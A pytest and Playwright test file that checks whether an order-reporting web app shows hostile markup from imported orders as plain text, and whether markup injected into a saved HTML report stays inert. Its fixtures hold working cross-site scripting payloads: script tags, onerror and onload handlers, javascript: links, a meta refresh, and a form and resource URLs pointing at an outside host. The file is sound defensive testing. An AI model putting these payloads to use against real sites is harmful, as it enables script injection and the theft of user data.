"""Pages in a real browser: markup that others wrote is text, and markup that got in all the same can do nothing."""

from __future__ import annotations

import threading
from contextlib import contextmanager, suppress
from typing import TYPE_CHECKING, Any

import pytest
import uvicorn

from mfn.ledger.batch_listing import list_batches
from mfn.serving import base_url, listen
from mfn.settings import load_settings
from mfn.site.app import build_site
from tests.world import an_item, an_order

if TYPE_CHECKING:
    import socket
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

    from tests.world import World

ELSEWHERE = "http://elsewhere/"
OWN = "document.title='owned'"
MARKUP = f"""'"></title></style></pre><script>{OWN}</script><img src=x onerror="{OWN}"><svg onload="{OWN}">"""
INJECTED = f"""
<script>{OWN}</script><script src="{ELSEWHERE}a.js"></script><script type="module">{OWN}</script>
<img src="{ELSEWHERE}a.png" onerror="{OWN}"><svg onload="{OWN}"></svg><body onload="{OWN}">
<style>body {{ display: none !important; background: url({ELSEWHERE}style.png) }}</style>
<p id="styled" style="position: fixed; background: url({ELSEWHERE}inline.png)">styled</p>
<link rel="stylesheet" href="{ELSEWHERE}a.css"><link rel="preload" as="image" href="{ELSEWHERE}preload.png">
<iframe src="{ELSEWHERE}frame"></iframe><object data="{ELSEWHERE}object"></object><embed src="{ELSEWHERE}embed">
<video src="{ELSEWHERE}video" autoplay></video><base href="{ELSEWHERE}">
<meta http-equiv="refresh" content="0; url=javascript:{OWN}">
<form id="stolen" action="{ELSEWHERE}form"><input name="text" value="typed"><button id="send">send</button></form>
<a id="link" href="javascript:{OWN}">click</a>
"""


@pytest.fixture
def elsewhere() -> Iterator[socket.socket]:
    """Somewhere that markup wants to send something to; nobody there answers."""
    with listen("127.0.0.1", 0) as listener:
        listener.setblocking(False)
        yield listener


def _asked(elsewhere: socket.socket) -> bytes:
    """What was sent there by a browser that has left; one that connects ahead of a click and sends nothing, is let."""
    sent = b""
    with suppress(BlockingIOError):
        while True:
            connection, _ = elsewhere.accept()
            with connection:
                connection.settimeout(20)
                sent += connection.recv(1_000)
    return sent


@pytest.fixture
def batch_id(world: World) -> str:
    """An import of orders whose every text is markup; some are held, with their SKUs and words on the pages."""
    product: dict[str, Any] = {"sellerSku": MARKUP, "title": MARKUP, "asin": MARKUP}
    world.put(
        an_order(an_item(sku=MARKUP), orderId="<img/src=x/onerror=alert(1)>"),
        an_order(an_item(product=product | {"price": None}), level=MARKUP, orderId="HOSTILE-2"),
        an_order(programs=[MARKUP], orderId="HOSTILE-3"),
    )
    world.run()
    return str(list_batches(world.ledger, limit=1)[0].batch_id)


@contextmanager
def _served() -> Iterator[str]:
    listener = listen("127.0.0.1", 0)
    server = uvicorn.Server(uvicorn.Config(build_site(load_settings()), ws="none", lifespan="off", log_config=None))
    thread = threading.Thread(target=server.run, args=([listener],))
    thread.start()
    try:
        yield base_url("127.0.0.1", listener)
    finally:
        server.should_exit = True
        thread.join()


def _is_untouched(page: Page) -> bool:
    """Whether the title is the page's own, the body is seen, and nothing stands where its style would have it."""
    title = page.title()
    return "owned" not in title and page.locator("h1").first.is_visible()


def test_markup_from_outside_is_shown_as_text(chromium: Browser, world: World, batch_id: str) -> None:
    with _served() as home, chromium.new_context() as context:
        page = context.new_page()
        ways = ["", "orders?status=any", "orders/HOSTILE-2", "orders/HOSTILE-3", "expectations", f"runs/{batch_id}"]
        ways += ["orders?order=%3Cscript%3E", "orders/%3Cscript%3E", "%3Cscript%3E", f"orders?connection={MARKUP[:20]}"]
        for way in ways:
            page.goto(f"{home}/{way}")
            assert _is_untouched(page), way
            assert page.locator("script, img, svg[onload], iframe").count() == 0, way
        page.goto(f"{home}/orders/HOSTILE-2")
        assert MARKUP[:30] in page.locator("body").inner_text()
        page.goto(f"{home}/orders?status=any")
        page.get_by_text("<img/src=x/onerror=").first.click()
        assert _is_untouched(page)
        page.goto((world.home / ".mfn" / "reports" / f"{batch_id}.html").as_uri())
        assert _is_untouched(page)
        assert MARKUP[:30] in page.locator("body").inner_text()


@pytest.mark.parametrize("is_served", [True, False], ids=["on the site", "as a file"])
def test_injected_markup_can_do_nothing(
    chromium: Browser, world: World, batch_id: str, elsewhere: socket.socket, is_served: bool
) -> None:
    injected = INJECTED.replace(ELSEWHERE, f"{base_url('127.0.0.1', elsewhere)}/")
    report: Path = world.home / ".mfn" / "reports" / f"{batch_id}.html"
    before, body, after = report.read_text(encoding="utf-8").partition("<body>")
    report.write_text(f"{before}{body}{injected}{after}", encoding="utf-8")
    with _served() as home, chromium.new_context() as context:
        page = context.new_page()
        page.goto(f"{home}/runs/{batch_id}" if is_served else report.as_uri())
        page.wait_for_load_state("load")
        assert _is_untouched(page)
        assert page.locator("#styled").evaluate("part => getComputedStyle(part).position") == "static"
        page.locator("#link").click()
        page.locator("#send").evaluate("button => button.click()")  # a click would wait for the form to leave
        assert _is_untouched(page)
        assert page.url.startswith(home if is_served else "file:")
    assert _asked(elsewhere) == b""
